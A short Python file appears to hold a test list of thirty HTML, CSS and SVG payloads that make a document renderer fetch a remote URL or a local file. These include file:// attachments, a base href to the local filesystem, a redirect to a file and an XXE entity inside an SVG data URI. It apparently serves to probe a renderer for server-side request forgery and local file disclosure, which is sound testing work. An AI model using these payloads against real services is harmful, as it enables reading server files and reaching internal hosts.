"""Thirty ways to make a renderer fetch something. {u} is a server that counts, {f} a file on this machine."""

VECTORS: dict[str, str] = {
    "img": '<img src="{u}/hit.png">',
    "srcset": '<img srcset="{u}/hit.png 1x">',
    "link stylesheet": '<link rel="stylesheet" href="{u}/hit.css">',
    "css import": '<style>@import url("{u}/hit.css");</style>',
    "background": '<p style="background: url({u}/hit.png)">x</p>',
    "list-style": '<ul><li style="list-style-image: url({u}/hit.png)">x</li></ul>',
    "content": "<style>p::before {{ content: url({u}/hit.png) }}</style><p>x</p>",
    "font-face": "<style>@font-face {{ font-family: F; src: url({u}/hit.woff2) }} p {{ font: 9pt F }}</style>",
    "border-image": '<p style="border: 5px solid; border-image: url({u}/hit.png) 30">x</p>',
    "shape-outside": '<p style="float: left; shape-outside: url({u}/hit.png)">x</p>',
    "object": '<object data="{u}/hit.png"></object>',
    "embed": '<embed src="{u}/hit.png">',
    "iframe": '<iframe src="{u}/hit.html"></iframe>',
    "svg image": '<svg width="9" height="9"><image width="9" height="9" href="{u}/hit.png"/></svg>',
    "svg use": '<svg width="9" height="9"><use href="{u}/hit.svg#a"/></svg>',
    "svg in data": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
        "<image width='9' height='9' href='{u}/hit.png'/></svg>\">"
    ),
    "link attachment http": '<link rel="attachment" href="{u}/hit.txt">',
    "link attachment file": '<link rel="attachment" href="file://{f}">',
    "link attachment base": '<base href="file://{d}/"><link rel="attachment" href="{n}">',
    "a attachment http": '<a rel="attachment" href="{u}/hit.txt">x</a>',
    "base href": '<base href="{u}/"><img src="hit.png">',
    "redirect to file": '<img src="{u}/redirect">',
    "page background": "<style>@page {{ background: url({u}/hit.png) }}</style>",
    "margin box": "<style>@page {{ @top-left {{ content: url({u}/hit.png) }} }}</style>",
    "cursor": '<p style="cursor: url({u}/hit.png), auto">x</p>',
    "input image": '<input type="image" src="{u}/hit.png">',
    "video poster": '<video poster="{u}/hit.png"></video>',
    "xxe in svg": (
        "<img src=\"data:image/svg+xml,<!DOCTYPE svg [<!ENTITY x SYSTEM '{u}/hit.txt'>]>"
        "<svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>\">"
    ),
    "img file": '<img src="file://{i}">',
    "css file import": '<style>@import url("file://{c}");</style>',
}
